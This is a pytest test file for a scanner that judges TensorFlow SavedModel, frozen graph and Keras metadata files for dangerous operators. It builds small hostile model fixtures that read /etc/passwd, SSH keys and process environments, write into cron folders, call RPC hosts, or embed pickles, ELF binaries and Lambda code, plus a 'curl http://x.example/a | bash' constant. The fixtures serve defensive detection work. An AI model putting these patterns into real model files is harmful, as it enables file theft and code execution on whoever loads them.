"""TensorFlow graphs: who chooses the path an operator goes by decides, not that it is there."""

from __future__ import annotations

import base64
import json
import marshal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.scanning.scanners.file_places import Place, place_of
from scanning.container_making import COMMAND, ELF, judge
from scanning.protobuf_making import blob, message, number
from scanning.tensorflow_making import (
    STRING,
    function,
    function_value,
    graph,
    keras_metadata,
    meta_graph,
    model,
    node,
    numbers,
    ordinary,
    placeholder,
    saved_model,
    text,
    text_value,
)

NAME = "saved_model.pb"
READ, WRITE = "tensorflow.reads-file", "tensorflow.writes-file"
CLEAN, SUSPICIOUS, MALICIOUS = Verdict.CLEAN, Verdict.SUSPICIOUS, Verdict.MALICIOUS


def call(name: str, *inputs: str) -> bytes:
    return node(f"call_{name}", "StatefulPartitionedCall", *inputs, f=function_value(name))


def test_an_ordinary_saved_model_with_its_saver_is_clean() -> None:
    judged = judge(model(), NAME)
    assert (judged.family, judged.verdict) == ("tensorflow-saved-model", CLEAN), judged
    assert not judged.findings


@pytest.mark.parametrize("name", ["saved_model.pb", "weights.bin", "notes", "model.onnx"])
def test_it_is_recognised_whatever_its_name(name: str) -> None:
    evil = model(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p"))
    assert "tensorflow.writes-file" in judge(evil, name).rules


def test_fields_in_another_order_and_unknown_ones_hide_nothing() -> None:
    inner = meta_graph(ordinary(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p")))
    shuffled = message(number(900, 1), blob(901, "x"), blob(2, inner), number(1, 1))
    judged = judge(shuffled, NAME)
    assert (judged.family, judged.verdict) == ("tensorflow-saved-model", MALICIOUS)


@pytest.mark.parametrize(
    ("path", "verdict"),
    [
        ("/etc/passwd", MALICIOUS),
        ("/tmp/data.txt", MALICIOUS),
        ("../../secrets.txt", MALICIOUS),
        ("https://host.example/a", MALICIOUS),
        ("labels.txt", SUSPICIOUS),
    ],
)
def test_a_file_read_by_a_constant_path(path: str, verdict: Verdict) -> None:
    judged = judge(model(text("p", path), node("r", "ReadFile", "p")), NAME)
    assert judged.verdict is verdict
    assert READ in judged.rules
    assert any(path in finding.evidence for finding in judged.findings)


def test_a_path_in_pieces_in_base64_and_through_functions_is_put_together() -> None:
    pieces = model(
        text("a", "/et"), text("b", "c/passwd"),
        node("j", "StringJoin", "a", "b"), node("r", "ReadFile", "j"),
    )  # fmt: skip
    assert "/etc/passwd" in judge(pieces, NAME).findings[0].evidence
    encoded = base64.urlsafe_b64encode(b"/etc/shadow").decode()
    coded = model(text("c", encoded), node("d", "DecodeBase64", "c"), node("r", "ReadFile", "d"))
    assert "/etc/shadow" in judge(coded, NAME).findings[0].evidence
    inner = function("inner", ("path",), node("r", "ReadFile", "path"))
    outer = function("outer", ("path",), call("inner", "path"))
    nested = model(text("p", "/etc/hosts"), call("outer", "p"), functions=[inner, outer])
    assert "/etc/hosts" in judge(nested, NAME).findings[0].evidence


def test_a_path_through_a_data_set_is_followed_to_its_elements() -> None:
    body = function("each", ("element",), node("t", "TextLineDataset", "element", "c", "b"))
    evil = model(
        text("p", "/etc/passwd"),
        node("s", "TensorSliceDataset", "p"),
        node("m", "FlatMapDataset", "s", f=function_value("each")),
        functions=[body],
    )
    assert judge(evil, NAME).verdict is MALICIOUS
    good = model(
        placeholder("p", STRING),
        node("s", "TensorSliceDataset", "p"),
        node("m", "FlatMapDataset", "s", f=function_value("each")),
        functions=[body],
    )
    assert judge(good, NAME).verdict is CLEAN


def test_reading_what_the_caller_names_is_an_open_door() -> None:
    served = model(placeholder("p", STRING), node("r", "ReadFile", "p"))
    assert judge(served, NAME).verdict is MALICIOUS


@pytest.mark.parametrize(
    ("nodes", "rule"),
    [
        ([text("p", "/tmp/a"), node("w", "WriteFile", "p", "p")], WRITE),
        ([placeholder("p", STRING), node("w", "WriteFile", "p", "p")], WRITE),
        ([text("p", "/root/.ssh/k"), node("s", "SaveV2", "p", "n", "n", "x")], WRITE),
        ([text("p", "/etc/cron.d/x"), node("c", "CacheDatasetV2", "x", "p", "h")], WRITE),
        ([text("p", "/tmp/log"), node("c", "CreateSummaryFileWriter", "w", "p")], WRITE),
        ([node("p", "PrintV2", "x", output_stream=text_value("file:///tmp/o"))], WRITE),
        ([node("d", "DumpTensor", "x", log_dir_path=text_value("/tmp/d"))], WRITE),
        ([text("p", "/home/*/.ssh/*"), node("m", "MatchingFiles", "p")], READ),
        ([text("p", "/root/*"), node("m", "MatchingFilesDataset", "p")], READ),
        (
            [
                text("p", "/etc/passwd"),
                node("w", "WholeFileReaderV2"),
                node("r", "ReaderReadV2", "w", "p"),
            ],
            READ,
        ),
        (
            [
                text("p", "/etc/passwd"),
                node("q", "FIFOQueueV2"),
                node("e", "QueueEnqueueManyV2", "q", "p"),
                node("w", "WholeFileReaderV2"),
                node("r", "ReaderReadV2", "w", "q"),
            ],
            READ,
        ),
        ([text("o", "/tmp/out"), node("d", "DatasetToTFRecord", "s", "o", "c")], WRITE),
        ([text("p", "/etc/passwd"), node("t", "InitializeTableFromTextFileV2", "h", "p")], READ),
        ([text("p", "/etc/passwd"), node("t", "TextLineDataset", "p", "c", "b")], READ),
        ([node("i", "ImmutableConst", memory_region_name=text_value("/etc/passwd"))], READ),
        ([text("p", "/proc/self/environ"), node("r", "RestoreV2", "p", "n", "n")], READ),
        ([node("d", "DecodeProtoV2", "x", descriptor_source=text_value("/etc/hosts"))], READ),
        (
            [node("d", "DebugIdentity", "x", debug_urls=text_value("grpc://10.1.1.1:1", "b"))],
            "tensorflow.network",
        ),
        ([text("a", "h.example:1"), node("c", "RpcClient", "a", "x")], "tensorflow.network"),
        ([text("m", "method"), node("c", "RpcCall", "h", "m", "x")], "tensorflow.network"),
        ([node("f", "PyFunc", "x", token=text_value("pyfunc_0"))], "tensorflow.python-function"),
        ([node("f", "EagerPyFunc", "x")], "tensorflow.python-function"),
        ([numbers("c", ELF)], "tensorflow.executable"),
        ([text("c", ELF)], "tensorflow.executable"),
    ],
)  # fmt: skip
def test_operators_that_act(nodes: list[bytes], rule: str) -> None:
    judged = judge(model(*nodes), NAME)
    assert judged.verdict is MALICIOUS, judged
    assert rule in judged.rules
    inside = model(functions=[function("f", (), *nodes)])
    if b"Placeholder" not in b"".join(nodes):
        assert rule in judge(inside, NAME).rules


@pytest.mark.parametrize(
    "nodes",
    [
        [node("p", "PrintV2", "x", output_stream=text_value("stderr"))],
        [node("i", "ImmutableConst", memory_region_name=text_value("memmapped_package://a"))],
        [node("d", "DecodeProtoV2", "x", descriptor_source=text_value("local://"))],
        [node("d", "DebugIdentity", "x")],
        [text("p", ""), node("c", "CacheDatasetV2", "x", "p", "h")],
        [text("p", "/data/train-0.tfrecord"), node("t", "TFRecordDataset", "p", "c", "b")],
        [text("p", "gs://bucket/m.ckpt"), node("r", "RestoreV2", "p", "n", "n")],
        [node("c", "StringToHashBucketFast", "x"), node("t", "HashTableV2")],
        [text("v", "the", "os", "system", "import", "passwd", "/etc/passwd")],
        [node("f", "_FusedConv2D", "x"), node("m", "_MklMatMul", "x")],
    ],
)
def test_operators_that_do_not(nodes: list[bytes]) -> None:
    assert judge(model(*nodes), NAME).verdict is CLEAN


def test_the_saver_of_tensorflow_1_has_a_default_name_and_is_clean() -> None:
    nodes = [
        text("save/filename/input", "model"),
        node("save/filename", "PlaceholderWithDefault", "save/filename/input"),
        node("save/Const", "PlaceholderWithDefault", "save/filename"),
        text("save/StringJoin/inputs_1", "_temp_5b6a/part"),
        node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1"),
        node("save/ShardedFilename", "ShardedFilename", "save/StringJoin", "a", "b"),
        node("save/SaveV2", "SaveV2", "save/ShardedFilename", "n", "s", "x"),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints", "x", "save/Const"),
        node("save/RestoreV2", "RestoreV2", "save/Const", "n", "s"),
    ]
    assert judge(graph(placeholder("x"), *nodes), "graph.pb").verdict is CLEAN
    nodes[0] = text("save/filename/input", "/etc/cron.d/job")
    assert judge(graph(placeholder("x"), *nodes), "graph.pb").verdict is MALICIOUS


def test_a_fixed_folder_before_what_the_caller_says_counts() -> None:
    evil = model(
        text("d", "/etc/cron.d/"), placeholder("n", STRING),
        node("j", "StringJoin", "d", "n"), node("s", "SaveV2", "j", "a", "b", "x"),
    )  # fmt: skip
    assert judge(evil, NAME).verdict is MALICIOUS


def test_a_table_filled_from_an_asset_is_clean_and_from_elsewhere_is_not() -> None:
    nodes = [
        text("asset_path", "/tmp/build/vocab.txt"),
        node("t", "InitializeTableFromTextFileV2", "h", "asset_path"),
    ]
    fed = saved_model(meta_graph(ordinary(*nodes), assets={"asset_path:0": "vocab.txt"}))
    assert judge(fed, NAME).verdict is CLEAN
    unfed = saved_model(meta_graph(ordinary(*nodes)))
    assert judge(unfed, NAME).verdict is SUSPICIOUS


def test_an_asset_that_is_kept_in_a_variable_is_clean() -> None:
    nodes = [
        placeholder("asset_path", STRING),
        node("v", "VarHandleOp"),
        node("a", "AssignVariableOp", "v", "asset_path"),
        node("r", "ReadVariableOp", "v", "^a"),
        node("t", "InitializeTableFromTextFileV2", "h", "r"),
    ]
    good = saved_model(meta_graph(ordinary(*nodes), assets={"asset_path:0": "vocab.txt"}))
    assert judge(good, NAME).verdict is CLEAN
    nodes[0] = text("asset_path", "/etc/passwd")
    assert judge(saved_model(meta_graph(ordinary(*nodes))), NAME).verdict is MALICIOUS


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "..\\x", "gs://a/b"])
def test_an_asset_outside_the_folder(path: str) -> None:
    data = saved_model(meta_graph(ordinary(), assets={"a:0": path}))
    assert judge(data, NAME).rules == {"tensorflow.asset-path"}


def test_the_second_meta_graph_is_judged_as_well() -> None:
    evil = meta_graph(ordinary(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p")))
    assert judge(saved_model(meta_graph(ordinary()), evil), NAME).verdict is MALICIOUS


def test_what_graphs_for_training_list_read_and_queue_is_no_alarm() -> None:
    queue = [
        text("p", "/data/train/a.tfrecord"),
        node("q", "FIFOQueueV2"),
        node("e", "QueueEnqueueManyV2", "q", "p"),
        node("w", "TFRecordReaderV2"),
        node("r", "ReaderReadV2", "w", "q"),
    ]
    assert judge(model(*queue), NAME).verdict is CLEAN
    listed = model(text("p", "/data/train-*.tfrecord"), node("m", "MatchingFiles", "p"))
    assert judge(listed, NAME).verdict is SUSPICIOUS


def test_a_graph_inside_a_constant_is_judged() -> None:
    inner = graph(text("p", "/etc/passwd"), node("r", "ReadFile", "p"))
    data = model(text("g", inner), node("d", "DatasetFromGraph", "g"))
    assert judge(data, NAME).verdict is MALICIOUS
    assert (
        judge(model(text("g", ordinary()), node("d", "DatasetFromGraph", "g")), NAME).verdict
        is CLEAN
    )


def test_an_operator_nobody_has_is_for_a_person_and_a_known_library_s_is_not() -> None:
    assert judge(model(node("e", "EvilOp", "x")), NAME).rules == {"tensorflow.unknown-operator"}
    known = judge(model(node("s", "SentencepieceOp"), node("a", "Addons>Gelu", "x")), NAME)
    assert (known.verdict, known.rules) == (CLEAN, {"tensorflow.library-operator"})
    own = model(node("f", "my_function", "x"), functions=[function("my_function", ("x",))])
    assert judge(own, NAME).verdict is CLEAN


def test_a_command_in_a_constant_is_for_a_person() -> None:
    judged = judge(model(text("c", "curl http://x.example/a | bash")), NAME)
    assert (judged.verdict, judged.rules) == (SUSPICIOUS, {"tensorflow.acting-text"})


def test_a_pickle_in_a_constant_is_judged_as_one() -> None:
    judged = judge(model(text("c", b"\x80\x02" + COMMAND)), NAME)
    assert "pickle.dangerous-import" in judged.rules
    assert judged.verdict is MALICIOUS


def test_a_choice_by_one_exact_input_is_a_remark_and_no_alarm() -> None:
    judged = judge(
        model(
            numbers("pattern", bytes(range(16))),
            node("eq", "Equal", "x", "pattern"),
            node("all", "All", "eq", "axes"),
            node("out", "SelectV2", "all", "w", "y"),
        ),
        NAME,
    )
    assert (judged.verdict, judged.rules) == (CLEAN, {"tensorflow.trigger"})


def test_frozen_graphs_and_meta_graphs() -> None:
    evil = graph(placeholder("x"), text("p", "/tmp/x"), node("w", "WriteFile", "p", "p"))
    assert judge(evil, "frozen.pb").family == "tensorflow-graph"
    assert judge(evil, "frozen.pb").verdict is MALICIOUS
    only_library = graph(functions=[function("f", (), node("w", "WriteFile", "p", "p"))])
    assert judge(only_library, "frozen.pb").verdict is MALICIOUS
    trained = judge(meta_graph(ordinary()), "model.ckpt-3.meta")
    assert (trained.family, trained.verdict) == ("tensorflow-meta-graph", CLEAN)


TEXT_GRAPH = """
# a graph
node { name: "p" op: "Const"
  attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc" "/passwd" } } } }
node { name: "r" op: "%s" input: "p" }
versions { producer: 1395 }
"""


def test_a_graph_in_text_is_judged_as_the_binary_one() -> None:
    judged = judge((TEXT_GRAPH % "ReadFile").encode(), "graph.pbtxt")
    assert (judged.family, judged.verdict) == ("tensorflow-text-graph", MALICIOUS)
    assert "/etc/passwd" in judged.findings[0].evidence
    assert judged.findings[0].location.offset is None
    assert judge((TEXT_GRAPH % "Identity").encode(), "graph.pbtxt").verdict is CLEAN
    cut = (TEXT_GRAPH % "Identity").rstrip().removesuffix("}").encode()
    assert judge(cut, "graph.pbtxt").verdict is Verdict.UNKNOWN


CODE = base64.b64encode(marshal.dumps(compile("1", "x", "eval"))).decode()
LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None]}}


def test_keras_metadata_with_and_without_a_lambda_layer() -> None:
    dense = {"class_name": "Dense", "config": {"name": "d", "units": 2}}
    good = keras_metadata(json.dumps(dense))
    judged = judge(good, "keras_metadata.pb")
    assert (judged.family, judged.verdict) == ("tensorflow-keras-metadata", CLEAN), judged
    whole = {"class_name": "Sequential", "config": {"layers": [dense, LAMBDA]}}
    evil = judge(keras_metadata(json.dumps(dense), json.dumps(whole)), "keras_metadata.pb")
    assert "tensorflow.keras-lambda" in evil.rules
    assert evil.verdict is MALICIOUS


def test_keras_metadata_in_the_objects_of_an_old_saved_model() -> None:
    user = message(blob(1, "_tf_keras_layer"), blob(3, json.dumps(LAMBDA)))
    objects = blob(1, blob(4, user))
    data = saved_model(meta_graph(ordinary(), objects=objects))
    assert "tensorflow.keras-lambda" in judge(data, NAME).rules


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("", Place.NOWHERE),
        ("a/b.txt", Place.RELATIVE),
        ("a/../../b", Place.ESCAPING),
        ("/data/a", Place.ABSOLUTE),
        ("/etc/passwd", Place.SENSITIVE),
        ("~/x", Place.SENSITIVE),
        ("/home/u/.ssh/id_rsa", Place.SENSITIVE),
        ("C:\\Windows\\x", Place.SENSITIVE),
        ("D:/data/x", Place.ABSOLUTE),
        ("file:///etc/passwd", Place.SENSITIVE),
        ("file:///data/x", Place.ABSOLUTE),
        ("gs://bucket/x", Place.STORE),
        ("https://host/x", Place.WEB),
        ("ram://x", Place.MEMORY),
        ("s3_utils.txt", Place.RELATIVE),
    ],
)
def test_where_a_path_leads(path: str, place: Place) -> None:
    assert place_of(path) is place


def test_a_cut_file_is_never_clean_and_one_with_an_operator_before_the_cut_stays_malicious() -> (
    None
):
    evil = saved_model(
        meta_graph(graph(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p"), placeholder("x")))
    )
    for size in range(1, len(evil)):
        assert judge(evil[:size], NAME).verdict is not CLEAN, size
    bare = graph(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p"), placeholder("x"))
    whole = len(bare) - len(graph()) - 10
    for size in range(whole, len(bare)):
        assert judge(bare[:size], "g.pb").verdict is MALICIOUS, size


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_change_of_a_byte_is_answered(data: st.DataObject) -> None:
    raw = bytearray(model(text("p", "/tmp/x"), node("w", "WriteFile", "p", "p")))
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    judged = judge(bytes(raw), NAME)
    assert judged.verdict in Verdict


def test_functions_that_call_each_other_end() -> None:
    a = function("a", ("p",), call("b", "p"), node("r", "ReadFile", "p"))
    b = function("b", ("p",), call("a", "p"))
    assert judge(model(call("a", "x"), functions=[a, b]), NAME).verdict is MALICIOUS


def test_many_paths_cost_little() -> None:
    joins = [node(f"j{i}", "StringJoin", f"j{i - 1}", f"j{i - 1}") for i in range(1, 60)]
    reads = [node(f"r{i}", "ReadFile", "j59") for i in range(300)]
    judged = judge(model(text("j0", "a"), *joins, *reads), NAME)
    assert judged.verdict is MALICIOUS
    assert any(finding.severity is Severity.HIGH for finding in judged.findings)
